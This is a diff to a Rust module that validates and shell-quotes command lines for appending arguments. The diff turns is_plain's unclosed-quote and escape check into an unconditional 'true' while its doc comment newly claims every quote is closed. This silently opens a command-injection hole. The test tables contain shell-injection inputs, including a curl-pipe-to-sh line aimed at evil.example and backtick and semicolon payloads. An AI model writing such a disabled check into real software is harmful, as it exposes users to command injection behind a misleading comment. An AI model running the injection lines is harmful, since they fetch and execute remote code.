@@ -74,7 +74,7 @@ fn is_one_program(command: &str) -> bool {
     !runs_script && !words.iter().any(|word| word == "--")
 }
 
-/// Returns whether no unquoted character ends the program's arguments.
+/// Returns whether no unquoted character ends the program's arguments. Every quote is closed.
 fn is_plain(command: &str) -> bool {
     let (mut quote, mut is_escaped, mut is_start) = (None, false, true);
     for character in command.chars() {
@@ -89,7 +89,7 @@ fn is_plain(command: &str) -> bool {
         }
         is_start = quote.is_none() && character.is_whitespace();
     }
-    quote.is_none() && !is_escaped
+    true
 }
 
 /// Quotes a word for the shell. Variables are still expanded, within double quotes; everything else is literal.
@@ -191,8 +191,10 @@ mod tests {
             ("web", &["'; curl evil.example | sh'"], Some("web '; curl evil.example | sh'")),
             ("web", &["a$"], Some("web 'a$'")),
             ("web", &["$PORT;id"], Some("web '$PORT;id'")),
+            ("web", &["`id`$PORT"], Some("web '`id`$PORT'")),
             ("web", &["${PORT"], Some("web '${PORT'")),
             ("bash start.sh", &["-B"], Some("bash start.sh -B")),
+            ("bash start.sh sync", &["-B"], Some("bash start.sh sync -B")),
             ("sh -c 'celery worker'", &["-B"], None),
             ("/bin/bash -lc celery", &["-B"], None),
             ("celery worker; echo done", &["-B"], None),
@@ -202,6 +204,7 @@ mod tests {
             ("celery worker > log", &["-B"], None),
             ("(celery worker)", &["-B"], None),
             ("celery worker # beat", &["-B"], None),
+            ("celery worker -B # beat", &["-B"], None),
             ("celery worker -- queue", &["-B"], None),
             ("celery `nproc`", &["-B"], None),
             ("celery\nworker", &["-B"], None),
@@ -219,5 +222,20 @@ mod tests {
     fn missing_parts_keep_their_order() {
         let parts = ["-B".to_owned(), "worker".to_owned(), "-Q low".to_owned()];
         assert_eq!(CommandLine::of("celery worker").lacks(&parts), ["-B", "-Q low"]);
+    }
+
+    #[test]
+    fn part_is_a_text_with_arguments() {
+        for (text, expected) in [
+            ("worker", true),
+            ("-Q low", true),
+            ("--name 'a b'", true),
+            ("''", false),
+            ("", false),
+            (" ", false),
+            ("it's", false),
+        ] {
+            assert_eq!(CommandLine::is_part(text), expected, "{text}");
+        }
     }
 }
